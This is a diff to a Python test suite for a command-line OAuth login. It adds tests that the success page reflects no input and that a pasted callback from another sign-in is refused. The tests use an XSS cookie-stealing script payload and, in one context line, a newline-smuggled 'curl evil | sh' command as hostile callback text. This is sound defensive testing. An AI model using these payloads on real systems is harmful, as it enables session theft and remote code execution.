@@ -3088,6 +3088,21 @@ class OAuthLoginTest(OAuthCase):
         self.assertEqual(body.decode(), f"Authentication failed: access_denied. {payload}")
         self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))
 
+    def test_success_page_is_static_html(self) -> None:
+        # The one HTML answer echoes nothing from the request: the same bytes
+        # whatever the code and the other parameters hold.
+        payload = "<script>alert(document.cookie)</script>"
+        pages = []
+        for params in ({"code": payload, "extra": payload}, {"code": "c"}):
+            with self.subTest(params=params):
+                _, _, _, (status, headers, body) = self.login(browser=self.direct(**params))
+                self.assertEqual(status, 200)
+                self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
+                self.assertEqual(headers["x-content-type-options"], "nosniff")
+                self.assertNotIn(b"script", body)
+                pages.append(body)
+        self.assertEqual(pages[0], pages[1])
+
     def test_callback_text_stays_on_one_line(self) -> None:
         _, code, err = self.login_denied("no\nRun: curl evil | sh\r\n\x1b[2J")
         self.assertEqual(
@@ -3133,22 +3148,35 @@ class OAuthLoginTest(OAuthCase):
             self.assert_port_closed(self.ports[0])
 
     @unittest.skipUnless(POSIX, "needs a pty")
-    def test_picker_oauth_then_a_pasted_url_with_a_forged_state(self) -> None:
+    def test_picker_oauth_then_a_pasted_url_of_another_sign_in(self) -> None:
         # OAuth picked on the terminal; a pasted address is checked like a
-        # callback: a state this login did not issue ends it before any token request.
-        def forged(shown: str) -> str:
-            return _login_redirect(_login_browser_url(shown), state="forged")
+        # callback. One with a state this login did not issue (an older
+        # tab's) is never exchanged: the prompt says so and asks again.
+        forged_codes = []
 
-        code, shown, err = self.run_tty(["login", "--no-browser", "--timeout=5"], ["1", forged], NO_COLOR="1")
-        self.assertEqual((code, err), (1, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n"))
+        def old_tab(shown: str) -> str:
+            pasted = _login_redirect(_login_browser_url(shown), state="forged")
+            forged_codes.append(_login_query(pasted)["code"])
+            return pasted
+
+        def this_tab(shown: str) -> str:
+            return _login_redirect(_login_browser_url(shown))
+
+        code, shown, err = self.run_tty(
+            ["login", "--no-browser", "--timeout=5"], ["1", old_tab, this_tab], NO_COLOR="1"
+        )
+        self.assertEqual((code, err), (0, ""))
         self.assertIn("Choose 1-2 [2]: 1\nBrowser: https://", shown)
         self.assertIn(
             "\nNo browser was opened. Open the URL above in a browser on any device.\n"
             "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:\n",
             shown,
         )
-        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
-        self.assertFalse(os.path.exists(self.creds))
+        self.assertIn(f"\n{LoginWaitTest.PASTE_OTHER}\n", shown)
+        self.assertTrue(shown.endswith("\nSigned in\n"), shown)
+        (exchange,) = self.auth0.seen("POST", "/oauth/token")
+        self.assertNotIn(parse_qs(exchange.body.decode())["code"][0], forged_codes)
+        self.assertEqual(self.read_creds()["mode"], "oauth")
 
     def test_auth0_domain_must_be_a_bare_host(self) -> None:
         # Checked on the raw text before a port is opened: it is printed in
@@ -3345,6 +3373,10 @@ class LoginWaitTest(OAuthCase):
         "That is not the address the browser ended on (it starts http://127.0.0.1 and holds code= and state=)."
         " Paste it again, or wait for the browser:"
     )
+    PASTE_OTHER = (
+        "That address belongs to another sign-in (an older tab?), not to this one."
+        " Paste the address this sign-in ended on, or wait for the browser:"
+    )
     NO_BROWSER = "No browser was opened. Open the URL above in a browser on any device."
 
     def test_timeout(self) -> None:
@@ -3409,6 +3441,20 @@ class LoginWaitTest(OAuthCase):
         self.assertEqual(self.read_creds()["mode"], "oauth")
         # The code without its state was never exchanged; the real paste was, once.
         self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_a_pasted_address_of_another_sign_in_asks_again(self) -> None:
+        # The address an older tab ended on: another sign-in's state. It
+        # does not end this one (nothing is exchanged); an error callback does.
+        old = "http://127.0.0.1:1/callback?code=old-code&state=old-state"
+        denied = "http://127.0.0.1:1/callback?error=access_denied&state=old-state"
+        code, shown, err = self.run_tty(
+            ["login", "--oauth", "--no-browser", "--timeout=5"], [old, denied], NO_COLOR="1"
+        )
+        self.assertEqual((code, err), (1, "Login failed\nAuthentication failed: access_denied\n"))
+        self.assertTrue(shown.endswith(f"{self.PASTE}\n{old}\n{self.PASTE_OTHER}\n{denied}\n"), shown)
+        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
+        self.assertFalse(os.path.exists(self.creds))
 
     @unittest.skipUnless(POSIX, "needs a pty")
     def test_a_pasted_error_callback_ends_the_login(self) -> None:
